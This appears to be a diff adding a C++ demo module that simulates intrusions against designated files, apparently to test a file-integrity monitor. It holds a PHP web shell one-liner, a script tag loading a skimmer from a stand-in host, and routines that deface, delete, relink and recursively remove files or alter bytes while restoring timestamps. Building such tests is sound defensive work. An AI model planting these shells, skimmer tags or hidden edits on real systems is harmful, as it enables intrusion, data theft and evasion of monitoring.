@@ -1,0 +1,161 @@
+#include "Attacks.h"
+
+#include <fcntl.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <cstring>
+#include <filesystem>
+#include <string_view>
+#include <system_error>
+#include <utility>
+
+#include "sdk/FileDescriptor.h"
+
+namespace Demo {
+namespace {
+
+constexpr std::string_view kDefacement =
+    "<html><body><h1>This page was taken over</h1></body></html>\n";
+constexpr std::string_view kScript = "\n<script src=\"//intruder.invalid/skim.js\"></script>\n";
+constexpr std::string_view kShell = "<?php system($_GET['c']); ?>\n";
+constexpr mode_t kNewFileMode = 0644;
+constexpr mode_t kNewDirectoryMode = 0755;
+constexpr mode_t kOpenMode = 0777;
+constexpr mode_t kClosedMode = 0600;
+
+std::string Failure(const std::string& what, const std::string& path) {
+    return "cannot " + what + " " + path + ": " + std::strerror(errno);
+}
+
+std::string WriteTo(const std::string& path, int flags, std::string_view text) {
+    const SDK::FileDescriptor file(
+        ::open(path.c_str(), flags | O_WRONLY | O_CLOEXEC, kNewFileMode));
+    if (!file.IsOpen()) return Failure("open", path);
+    if (::write(file.Get(), text.data(), text.size()) != static_cast<ssize_t>(text.size())) {
+        return Failure("write", path);
+    }
+    return {};
+}
+
+std::string Result(int returned, const std::string& what, const std::string& path) {
+    return returned == 0 ? std::string() : Failure(what, path);
+}
+
+/// A step inside a tree that may be taken away under the intruder's hands.
+std::string UnlessGone(std::string failure) {
+    return errno == ENOENT ? std::string() : failure;
+}
+
+std::string Delete(const std::string& path) {
+    return Result(::unlink(path.c_str()), "delete", path);
+}
+
+std::string AddTree(const std::string& path) {
+    const std::string inner = path + "/assets/img";
+    for (const std::string& directory : {path, path + "/assets", inner}) {
+        if (::mkdir(directory.c_str(), kNewDirectoryMode) != 0) {
+            return directory == path ? Failure("make", path)
+                                     : UnlessGone(Failure("make", directory));
+        }
+    }
+    for (const std::string& file : {path + "/index.php", inner + "/logo.php", inner + "/kit.js"}) {
+        const std::string failure = WriteTo(file, O_CREAT, kShell);
+        if (!failure.empty()) return UnlessGone(failure);
+    }
+    return {};
+}
+
+std::string ChangeMode(const std::string& path) {
+    struct stat info {};
+    if (::lstat(path.c_str(), &info) != 0) return Failure("look at", path);
+    const mode_t mode = (info.st_mode & kOpenMode) == kOpenMode ? kClosedMode : kOpenMode;
+    return Result(::chmod(path.c_str(), mode), "change the mode of", path);
+}
+
+/// In one step, as `ln -sf` does.
+std::string ReplaceByLink(const std::string& path, const std::string& target,
+                          const std::string& ready) {
+    if (::symlink(target.c_str(), ready.c_str()) != 0) return Failure("link", ready);
+    return Result(::rename(ready.c_str(), path.c_str()), "replace", path);
+}
+
+std::string ReplaceDirectoryByLink(const std::string& path, const std::string& aside,
+                                   const std::string& target) {
+    if (::rename(path.c_str(), aside.c_str()) != 0) return Failure("move away", path);
+    return Result(::symlink(target.c_str(), path.c_str()), "link", path);
+}
+
+std::string RemoveTree(const std::string& path) {
+    std::error_code error;
+    std::filesystem::remove_all(path, error);
+    // Files that come back meanwhile keep their directory from being removed.
+    if (!error || error == std::errc::directory_not_empty ||
+        error == std::errc::no_such_file_or_directory) {
+        return {};
+    }
+    return "cannot remove " + path + ": " + error.message();
+}
+
+/// Other bytes, the same size, and the modification time as it was.
+std::string ChangeUnseen(const std::string& path) {
+    const SDK::FileDescriptor file(::open(path.c_str(), O_RDWR | O_CLOEXEC));
+    struct stat info {};
+    char first = 0;
+    if (!file.IsOpen() || ::fstat(file.Get(), &info) != 0 ||
+        ::pread(file.Get(), &first, 1, 0) != 1) {
+        return Failure("read", path);
+    }
+    first = first == '!' ? '?' : '!';
+    if (::pwrite(file.Get(), &first, 1, 0) != 1) return Failure("write", path);
+    const struct timespec times[2] = {info.st_atim, info.st_mtim};
+    return Result(::futimens(file.Get(), times), "set the time of", path);
+}
+
+/// A file that the intruder has ready, to be moved over another.
+std::string Prepare(const std::string& scratch, const std::string& name) {
+    std::string path = scratch + "/" + name;
+    WriteTo(path, O_CREAT | O_TRUNC, kDefacement);
+    return path;
+}
+
+Attack RenameOver(const std::string& name, const std::string& path, const std::string& ready) {
+    return {name, path,
+            [=] { return Result(::rename(ready.c_str(), path.c_str()), "rename over", path); }};
+}
+
+}  // namespace
+
+std::vector<Attack> PlanAttacks(const Victims& victims, const std::string& scratch,
+                                const std::string& single_file) {
+    const auto& files = victims.files;
+    const auto& trees = victims.directories;
+    const std::string shell = victims.homes[0] + "/sentrel-demo-shell.php";
+    const std::string kit = victims.homes[1] + "/sentrel-demo-kit";
+    const std::string page = Prepare(scratch, "linked.html");
+    const std::string elsewhere = scratch + "/elsewhere";
+    std::filesystem::create_directories(elsewhere);
+    std::vector<Attack> attacks{
+        {"modify a file", files[0], [=] { return WriteTo(files[0], O_TRUNC, kDefacement); }},
+        {"append to a file", files[1], [=] { return WriteTo(files[1], O_APPEND, kScript); }},
+        {"delete a file", files[2], [=] { return Delete(files[2]); }},
+        {"add a file", shell, [=] { return WriteTo(shell, O_CREAT | O_EXCL, kShell); }},
+        {"add a directory tree", kit, [=] { return AddTree(kit); }},
+        {"change a file's mode", files[3], [=] { return ChangeMode(files[3]); }},
+        RenameOver("rename over a file", files[4], Prepare(scratch, "page.html")),
+        {"replace a file by a link", files[5],
+         [=] { return ReplaceByLink(files[5], page, scratch + "/link"); }},
+        {"replace a directory by a link", trees[0],
+         [=] { return ReplaceDirectoryByLink(trees[0], scratch + "/moved", elsewhere); }},
+        {"rm -rf a subtree", trees[1], [=] { return RemoveTree(trees[1]); }},
+        {"same size, time set back", files[6], [=] { return ChangeUnseen(files[6]); }},
+    };
+    if (!single_file.empty()) {
+        attacks.push_back(
+            RenameOver("rename over a single file", single_file, Prepare(scratch, "single")));
+    }
+    return attacks;
+}
+
+}  // namespace Demo
